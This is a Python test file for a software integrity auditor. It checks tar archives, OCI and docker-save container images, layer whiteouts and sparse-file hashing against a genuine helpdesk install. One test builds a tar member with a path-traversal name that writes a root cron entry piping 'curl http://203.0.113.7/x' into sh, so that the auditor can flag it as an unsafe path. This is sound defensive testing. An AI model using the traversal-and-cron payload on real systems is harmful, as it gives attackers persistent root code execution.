"""Targets other than a directory: archives and container images, read in place."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile

from conftest import SAMPLES, audit_json, by_category

GENUINE = SAMPLES / "sampledesk-7.0.3-genuine"


def _add_tree(tar: tarfile.TarFile, src, prefix: str, skip=()):
    for p in sorted(src.rglob("*")):
        rel = p.relative_to(src).as_posix()
        if rel in skip:
            continue
        tar.add(p, arcname=f"{prefix}/{rel}" if prefix else rel, recursive=False)


def test_tar_gz_archive_target(tmp_path):
    tgz = tmp_path / "install.tar.gz"
    with tarfile.open(tgz, "w:gz") as tar:
        _add_tree(tar, GENUINE, "opt/sampledesk")
    report, _ = audit_json(tgz, "--root", "opt/sampledesk", expect_rc=0)
    assert report["target"] == {"path": str(tgz), "kind": "archive", "root": "opt/sampledesk"}
    assert report["identified_version"] == "7.0.3"
    assert report["findings"] == []


def test_a_compressed_archive_is_decompressed_once_when_its_files_fit_the_keep_budget(tmp_path, monkeypatch):
    """The listing pass keeps what it decompresses; past the budget the stream starts again, same report."""
    from auditor.target import streams, tar as tar_mod
    txz = tmp_path / "install.tar.xz"
    with tarfile.open(txz, "w:xz") as tar:
        _add_tree(tar, GENUINE, "opt/sampledesk")
    starts = []
    real = streams._RestartableReader._reset
    monkeypatch.setattr(streams._RestartableReader, "_reset", lambda self: (starts.append(1), real(self))[1])
    once, _ = audit_json(txz, "--root", "opt/sampledesk", expect_rc=0)
    assert len(starts) == 1 and once["identified_version"] == "7.0.3" and once["findings"] == []
    starts.clear()
    monkeypatch.setattr(tar_mod, "KEEP_TOTAL", 1000)        # a few small files kept, the rest read again
    again, _ = audit_json(txz, "--root", "opt/sampledesk", expect_rc=0)
    assert len(starts) > 1
    assert again == once


def test_archive_with_a_member_escaping_the_root(tmp_path):
    tgz = tmp_path / "evil.tar"
    with tarfile.open(tgz, "w") as tar:
        _add_tree(tar, GENUINE, "")
        info = tarfile.TarInfo("Kernel/../../etc/cron.d/vendor")
        data = b"* * * * * root curl http://203.0.113.7/x | sh\n"
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    report, _ = audit_json(tgz, expect_rc=1)
    assert by_category(report)["unsafe-path"] == {"Kernel/../../etc/cron.d/vendor"}


def _layer(files: dict[str, bytes | None], base=None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        if base is not None:
            _add_tree(tar, base, "opt/sampledesk")
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data or b"")
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data or b""))
    return buf.getvalue()


def _blob(data: bytes) -> tuple[str, bytes]:
    return "sha256:" + hashlib.sha256(data).hexdigest(), data


def _image_blobs(layers: list[bytes], os_: str = "linux", arch: str = "amd64") -> list[tuple[str, bytes]]:
    """An image's blobs: its layers, its config and, last, its manifest."""
    blobs = [_blob(layer) for layer in layers]
    config = _blob(json.dumps({"architecture": arch, "os": os_,
                               "rootfs": {"type": "layers", "diff_ids": [d for d, _ in blobs]}}).encode())
    manifest = _blob(json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                                 "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                            "digest": config[0], "size": len(config[1])},
                                 "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": d,
                                             "size": len(b)} for d, b in blobs]}).encode())
    return blobs + [config, manifest]


def _oci_tar(path, index: bytes, blobs: list[tuple[str, bytes]]) -> None:
    """An OCI image layout as a tar archive: its marker file, ``index`` and each distinct blob."""
    with tarfile.open(path, "w") as tar:
        def put(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        put("oci-layout", b'{"imageLayoutVersion": "1.0.0"}')
        put("index.json", index)
        for d, b in dict(blobs).items():
            put("blobs/sha256/" + d.split(":")[1], b)


def _oci_image(path, layers: list[bytes]):
    blobs = _image_blobs(layers)
    manifest = blobs[-1]
    index = json.dumps({"schemaVersion": 2, "manifests": [
        {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": manifest[0], "size": len(manifest[1]),
         "annotations": {"org.opencontainers.image.ref.name": "helpdesk:7.0.3"}}]}).encode()
    _oci_tar(path, index, blobs)


def test_oci_image_layers_and_whiteouts(tmp_path):
    """Layer 1: the genuine install. Layer 2 (the vendor's): a changed module, an added file,
    a deleted script (whiteout)."""
    base = _layer({}, GENUINE)
    vendor = _layer({
        "opt/sampledesk/Kernel/System/Ticket.pm": b"package Kernel::System::Ticket;\n# vendor\n1;\n",
        "opt/sampledesk/Kernel/System/Telemetry.pm": b"package Kernel::System::Telemetry;\n1;\n",
        "opt/sampledesk/scripts/.wh.backup.pl": None,
    })
    image = tmp_path / "helpdesk.oci.tar"
    _oci_image(image, [base, vendor])
    report, _ = audit_json(image, "--root", "opt/sampledesk", expect_rc=1)
    assert report["target"]["kind"] == "image"
    assert report["identified_version"] == "7.0.3"
    assert by_category(report) == {"modified-file": {"Kernel/System/Ticket.pm"},
                                   "added-file": {"Kernel/System/Telemetry.pm"},
                                   "missing-file": {"scripts/backup.pl"}}


def test_docker_save_format(tmp_path):
    base = _layer({}, GENUINE)
    image = tmp_path / "helpdesk.docker.tar"
    with tarfile.open(image, "w") as tar:
        for name, data in [("abc/layer.tar", base),
                           ("manifest.json", json.dumps([{"Config": "cfg.json", "RepoTags": ["helpdesk:7"],
                                                          "Layers": ["abc/layer.tar"]}]).encode()),
                           ("cfg.json", b"{}")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    report, _ = audit_json(image, "--root", "opt/sampledesk", expect_rc=0)
    assert report["target"]["kind"] == "image" and report["findings"] == []


def test_a_sparse_file_hashes_as_reading_it_would(tmp_path):
    """Holes are hashed as zeros without being read: every layout of holes and data (data at the start, in
    the middle across a MiB boundary, at the very end, none at all) gives the digest of reading the file."""
    import os

    from auditor.scan import scan
    from auditor.target import open_target
    mib = 1 << 20
    layouts = {"empty": [], "head": [(0, b"x" * 100)], "middle": [(5 * mib, b"y" * mib)],
               "two": [(0, bytes(range(256)) * 12288), (10 * mib, b"z" * 100)],
               "across": [(mib - 1, b"ab"), (7 * mib + 5, b"c" * (2 * mib + 3))], "tail": [(12 * mib - 10, b"e" * 10)]}
    expected = {}
    for name, layout in layouts.items():
        for size in (3 * mib, 12 * mib, 20 * mib + 7):       # the last past a 16 MiB re-check
            path = tmp_path / f"{name}-{size}.bin"
            with open(path, "wb") as fh:
                fh.truncate(size)
                for offset, data in layout:
                    if offset + len(data) <= size:
                        fh.seek(offset)
                        fh.write(data)
            expected[path.name] = hashlib.sha256(path.read_bytes()).hexdigest()
    assert any(os.stat(tmp_path / n).st_blocks * 512 < os.stat(tmp_path / n).st_size - mib for n in expected), \
        "the file system made no sparse file: the test would not reach the hole path"
    snap = scan(open_target(str(tmp_path)), progress=False)
    assert snap.problems == []
    assert {n: snap.entries[n].sha256 for n in expected} == expected
